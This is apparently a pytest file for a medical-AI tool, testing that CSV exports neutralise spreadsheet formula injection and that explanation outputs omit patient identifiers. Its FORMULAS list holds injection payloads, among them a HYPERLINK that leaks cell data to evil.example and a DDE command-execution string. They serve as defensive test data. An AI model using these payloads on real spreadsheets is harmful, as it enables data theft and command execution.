"""Issue 17, exports on a hospital network: each attack of the review, refused.

A reader's comment or a review note that a spreadsheet would run as a formula reaches the CSV
exports as inert text; ``fuselens explain`` on a case folder named after the patient ID puts
the ID into neither ``bundle.json`` nor ``report.html``, and refuses outputs that would hold
an identifier unless told ``--allow-identifiers``.
"""

from __future__ import annotations

import csv
import json
import shutil
from collections import Counter

import pydicom
import pytest
import torch
from pydicom.data import get_testdata_file
from study_support import fake_cases, study_config
from test_model_support import tiny_config

from fuselens.app.cli import main
from fuselens.app.review.table import cohort_table, export_csv
from fuselens.app.storage.db import open_database
from fuselens.app.study.config import parse_config, resolve_passwords
from fuselens.app.study.export import export_study
from fuselens.app.study.service import AnswerIn, create_study, next_assignment, submit_answer
from fuselens.model_zoo.model import FusionModel
from fuselens.model_zoo.registry import save_model

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A2,"open the case")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
]
ROW_BREAK = "looks fine\rR99,C999,no_ai,1,1,forged row"  # a lone CR ends a row for a reader


def _read_csv(path) -> list[dict[str, str]]:
    with open(path, newline="", encoding="utf-8") as f:
        return list(csv.DictReader(f))


def test_csv_formula_injection_in_a_readers_comment_is_neutralised(tmp_path):
    config, _ = resolve_passwords(parse_config(study_config(1, ["no_ai"])))
    engine, sessions = open_database(f"sqlite:///{tmp_path / 'study.db'}")
    try:
        with sessions() as session:
            study = create_study(session, config, fake_cases(len(FORMULAS) + 1))
            reader = next(r for r in study.readers if r.role == "reader")
            for text in [*FORMULAS, ROW_BREAK]:
                assignment = next_assignment(session, reader)
                submit_answer(session, reader, assignment.id, AnswerIn(1, 70, {}, text))
            export_study(session, study.id, tmp_path / "study.csv", tmp_path / "study.imrmc")
    finally:
        engine.dispose()
    rows = _read_csv(tmp_path / "study.csv")
    expected = ["'" + t for t in FORMULAS] + [ROW_BREAK]
    assert Counter(r["free_text"] for r in rows) == Counter(expected)
    for row in rows:  # numbers stay numbers
        assert int(row["confidence"]) == 70 and 0 < float(row["ai_probability"]) < 1
        assert row["case"].startswith("C") and row["reader"] == "R01"
    imrmc = (tmp_path / "study.imrmc").read_text(encoding="utf-8")
    assert "HYPERLINK" not in imrmc and "SUM(" not in imrmc  # the iMRMC file has no free text


def test_csv_formula_injection_in_a_review_note_is_neutralised(tmp_path):
    results = [
        {
            "case_id": f"P{i:03d}",
            "truth": 1,
            "prediction": 1,
            "probability": 0.8125 - i / 100,
            "outcome": "TP",
            "modalities": ["labs", "ecg"],
            "tags": [text] if i % 2 else ["label noise"],
            "notes": [text],
        }
        for i, text in enumerate([*FORMULAS, ROW_BREAK])
    ]
    table = cohort_table(results)
    rows = _read_csv(export_csv(table, tmp_path / "review.csv"))
    assert [r["notes"] for r in rows] == ["'" + t for t in FORMULAS] + [ROW_BREAK]
    assert [r["tags"] for r in rows[1::2]] == ["'" + t for t in FORMULAS[1::2]]
    assert [r["tags"] for r in rows[::2]] == ["label noise"] * 4  # plain text is left alone
    assert [float(r["probability"]) for r in rows] == list(table["probability"])
    assert [r["case_id"] for r in rows] == list(table["case_id"])


@pytest.fixture(scope="module")
def tiny_model(tmp_path_factory):
    torch.manual_seed(0)
    vocab = ["<pad>", "<bos>", "<eos>", "<unk>", "ecg", ":", "echo", "lbbb", ".", "\n"]
    return save_model(FusionModel(tiny_config(report_vocab=vocab)), tmp_path_factory.mktemp("m"))


def _real_ecg() -> tuple[str, str]:
    """pydicom's 12-lead ECG file and its PatientID."""
    path = get_testdata_file("waveform_ecg.dcm")
    return path, str(pydicom.dcmread(path, stop_before_pixels=True).PatientID)


def test_explain_of_a_case_folder_named_after_the_patient_id_writes_no_id(
    tiny_model, tmp_path, capsys
):
    ecg, patient_id = _real_ecg()
    case_dir = tmp_path / patient_id  # how a clinic often names its case folders
    case_dir.mkdir()
    shutil.copy(ecg, case_dir / "ecg.dcm")
    out = tmp_path / "out"
    args = ["explain", str(case_dir), "--out", str(out), "--model", str(tiny_model), "--json"]
    assert main(args) == 0
    summary = json.loads(capsys.readouterr().out)
    for name in ("bundle.json", "report.html"):
        assert patient_id not in (out / name).read_text(encoding="utf-8"), name
    assert patient_id not in json.dumps(summary)
    assert summary["case_id"].startswith("case-")


def test_explain_refuses_outputs_that_would_carry_an_identifier(tiny_model, tmp_path, capsys):
    ecg, patient_id = _real_ecg()
    case_dir = tmp_path / "case"
    case_dir.mkdir()
    shutil.copy(ecg, case_dir / "ecg.dcm")
    labs = {"items": [{"name": "NT-proBNP", "value": 900, "unit": "pg/mL"}]}
    labs["history"] = f"Seen in clinic under MRN {patient_id}, dyspnoea on exertion."
    (case_dir / "labs.json").write_text(json.dumps(labs), encoding="utf-8")
    out = tmp_path / "out"
    args = ["explain", str(case_dir), "--out", str(out), "--model", str(tiny_model)]
    with pytest.raises(SystemExit) as refused:
        main(args)
    assert "PatientID" in str(refused.value) and patient_id not in str(refused.value)
    assert not (out / "bundle.json").exists() and not (out / "report.html").exists()
    assert main([*args, "--allow-identifiers"]) == 0  # the user's explicit choice
    assert patient_id in (out / "bundle.json").read_text(encoding="utf-8")
